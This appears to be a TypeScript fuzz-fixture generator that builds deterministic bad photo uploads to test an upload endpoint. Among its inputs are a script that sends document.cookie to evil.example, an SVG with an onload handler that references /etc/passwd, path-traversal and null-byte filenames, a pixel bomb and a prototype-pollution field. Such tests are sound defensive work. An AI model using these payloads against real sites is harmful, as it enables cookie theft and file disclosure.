// Uploads that nobody should send: broken, disguised, oversized, and forms that are none. The same for the same seed.
import sharp from 'sharp';
import { PHOTO_MAX_BYTES } from '#contract/jobs.ts';
import type { RandomNumberFunction } from '#portrait/steps/noise.ts';
import { jpegOfManyScans } from './many-scans.ts';
import { createPixelBomb } from './pixel-bomb.ts';

/** One request body for the upload call. */
type BadUpload = { kind: string; contentType: string; body: Buffer };

type File = { bytes: Uint8Array; name?: string; type?: string };
type Ingredients = {
  random: RandomNumberFunction;
  /** A good photo, in both formats. */
  png: Buffer;
  jpeg: Buffer;
  fields: Record<string, string>;
};
type Maker = (from: Ingredients) => File | Promise<File> | BadUpload;

const BOUNDARY = 'a-line-that-stands-in-no-file';
const CONTENT_TYPE = `multipart/form-data; boundary=${BOUNDARY}`;

/** Endless uploads, kind after kind; `good` is a photo that would be accepted, `fields` the text fields of its form. */
export async function* generateBadUploads(
  random: RandomNumberFunction,
  { good, fields }: { good: Uint8Array; fields: Record<string, string> },
): AsyncGenerator<BadUpload, never> {
  const png = Buffer.from(good);
  const from = { random, png, jpeg: await sharp(png).jpeg({ quality: 92 }).toBuffer(), fields };
  for (;;) {
    for (const [kind, make] of Object.entries(makers)) {
      const made = await make(from);
      yield 'body' in made ? { ...made, kind } : { kind, contentType: CONTENT_TYPE, body: form(fields, made) };
    }
  }
}

/** How many kinds there are. */
export const countBadUploadKinds = (): number => Object.keys(makers).length;

const pick = <T>(random: RandomNumberFunction, of: readonly T[]): T => of[Math.floor(random() * of.length)];
const below = (random: RandomNumberFunction, limit: number) => Math.floor(random() * limit);
const text = (words: string): Buffer => Buffer.from(words);

const SCRIPT = '<html><script>fetch("//evil.example/"+document.cookie)</script></html>';
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><image href="file:///etc/passwd"/></svg>`;
const ZIP = Buffer.from('504b0506000000000000000000000000000000000000', 'hex');
const HEIC = Buffer.concat([Buffer.from([0, 0, 0, 24]), text('ftypheic'), Buffer.alloc(400)]);
const NAMES = [
  '../../../etc/passwd',
  'C:\\boot.ini',
  'photo.png\u0000.exe',
  '/dev/null',
  '.',
  '..%2f..%2fx',
  'a'.repeat(5000),
];
const TYPES = ['text/html', 'image/svg+xml', 'application/x-php', 'image/png; charset=x', 'a/b'];

const makers: Record<string, Maker> = {
  'PNG cut off': ({ random, png }) => ({ bytes: png.subarray(0, 8 + below(random, png.length - 8)) }),
  'JPEG cut off': ({ random, jpeg }) => ({ bytes: jpeg.subarray(0, 3 + below(random, jpeg.length - 3)) }),
  'PNG with flipped bits': ({ random, png }) => ({ bytes: flipped(random, png) }),
  'JPEG with flipped bits': ({ random, jpeg }) => ({ bytes: flipped(random, jpeg) }),
  'noise behind the first bytes of a PNG': ({ random, png }) => ({
    bytes: Buffer.concat([png.subarray(0, 8), noise(random, 2_000)]),
  }),
  'noise behind the first bytes of a JPEG': ({ random, jpeg }) => ({
    bytes: Buffer.concat([jpeg.subarray(0, 3), noise(random, 2_000)]),
  }),
  'PNG that is a page as well': ({ png }) => ({ bytes: Buffer.concat([png, text(SCRIPT)]), name: 'a.html' }),
  'JPEG that is an archive as well': ({ jpeg }) => ({ bytes: Buffer.concat([jpeg, ZIP]), name: 'a.zip' }),
  'PNG that is a script as well': ({ png }) => ({ bytes: Buffer.concat([png, text('*/=1;alert(1)//')]), name: 'a.js' }),
  'page under the name of a photo': () => ({ bytes: text(SCRIPT) }),
  'another type declared': ({ random, png }) => ({ bytes: png, type: pick(random, TYPES) }),
  'another ending': ({ random, jpeg }) => ({ bytes: jpeg, name: pick(random, ['a.php', 'a.svg', 'a.exe', 'a', '']) }),
  SVG: () => ({ bytes: text(SVG), name: 'a.svg', type: 'image/svg+xml' }),
  HEIC: () => ({ bytes: HEIC, name: 'a.heic', type: 'image/heic' }),
  AVIF: async ({ png }) => ({ bytes: await small(png).avif({ effort: 0 }).toBuffer() }),
  GIF: async ({ png }) => ({ bytes: await small(png).gif().toBuffer() }),
  WebP: async ({ png }) => ({ bytes: await small(png).webp().toBuffer() }),
  TIFF: async ({ png }) => ({ bytes: await small(png).tiff().toBuffer() }),
  'photo that says where it was taken': async ({ jpeg }) => ({
    bytes: await sharp(jpeg)
      .withExif({ IFD0: { Artist: 'Somebody' }, IFD3: { GPSLatitude: '52/1 30/1 0/1' } })
      .toBuffer(),
    type: 'image/jpeg',
  }),
  'no bytes': () => ({ bytes: Buffer.alloc(0) }),
  'one byte': ({ random }) => ({ bytes: noise(random, 1) }),
  'the most bytes, less one': ({ png }) => ({ bytes: padded(png, PHOTO_MAX_BYTES - 1) }),
  'the most bytes': ({ png }) => ({ bytes: padded(png, PHOTO_MAX_BYTES) }),
  'the most bytes and one': ({ png }) => ({ bytes: padded(png, PHOTO_MAX_BYTES + 1) }),
  '51 MB': ({ png }) => ({ bytes: padded(png, 51 * 1024 * 1024) }),
  'JPEG of 3,000 scans': async () => ({ bytes: await jpegOfManyScans(3000, 2000) }),
  'pixel bomb': () => ({ bytes: createPixelBomb() }),
  'one pixel': async ({ random }) => ({ bytes: await plain(1, random) }),
  'the most pixels': async ({ random }) => ({ bytes: await plain(4096, random) }),
  'path for a name': ({ random, png }) => ({ bytes: png.subarray(0, 999), name: pick(random, NAMES) }),
  'form without an end': ({ png, fields }) => whole(form(fields, { bytes: png }).subarray(0, -20)),
  'form without a file': ({ fields }) => whole(parts(fields)),
  'form with two files': ({ png, fields }) => whole(form(fields, { bytes: png }, { bytes: png })),
  'form with a thousand fields': ({ png }) =>
    whole(form(Object.fromEntries(Array.from({ length: 1000 }, (_, nth) => [`f${nth}`, 'x'])), { bytes: png })),
  'field of a megabyte': ({ png, fields }) => whole(form({ ...fields, angle: 'x'.repeat(2 ** 20) }, { bytes: png })),
  'field of a prototype': ({ png, fields }) => whole(form({ ...fields, ['__proto__']: 'x' }, { bytes: png })),
  'noise for a form': ({ random }) => whole(noise(random, 5_000)),
  'nothing for a form': () => whole(Buffer.alloc(0)),
  'form without a boundary': ({ png, fields }) => ({
    ...whole(form(fields, { bytes: png })),
    contentType: 'multipart/form-data',
  }),
  'form that is JSON': ({ fields }) => ({ ...whole(text(JSON.stringify(fields))), contentType: 'application/json' }),
};

function flipped(random: RandomNumberFunction, bytes: Buffer): Buffer {
  const copy = Buffer.from(bytes);
  for (let flips = 1 + below(random, 40); flips > 0; flips -= 1) {
    copy[8 + below(random, copy.length - 8)] ^= 1 << below(random, 8);
  }
  return copy;
}

const noise = (random: RandomNumberFunction, length: number): Buffer =>
  Buffer.from(Array.from({ length }, () => below(random, 256)));
const padded = (bytes: Buffer, length: number): Buffer => Buffer.concat([bytes, Buffer.alloc(length - bytes.length)]);
const small = (png: Buffer) => sharp(png).resize(200);

function plain(side: number, random: RandomNumberFunction): Promise<Buffer> {
  const background = { r: below(random, 256), g: below(random, 256), b: below(random, 256) };
  return sharp({ create: { width: side, height: side, channels: 3, background } })
    .png()
    .toBuffer();
}

const whole = (body: Buffer): BadUpload => ({ kind: '', contentType: CONTENT_TYPE, body });

function parts(fields: Record<string, string>): Buffer {
  const part = ([name, value]: [string, string]) =>
    `--${BOUNDARY}\r\ncontent-disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`;
  return text(Object.entries(fields).map(part).join(''));
}

function form(fields: Record<string, string>, ...files: File[]): Buffer {
  const file = ({ bytes, name = 'photo.png', type = 'image/png' }: File) => [
    text(`--${BOUNDARY}\r\ncontent-disposition: form-data; name="image"; filename="${name}"\r\n`),
    text(`content-type: ${type}\r\n\r\n`),
    bytes,
    text('\r\n'),
  ];
  return Buffer.concat([parts(fields), ...files.flatMap(file), text(`--${BOUNDARY}--\r\n`)]);
}
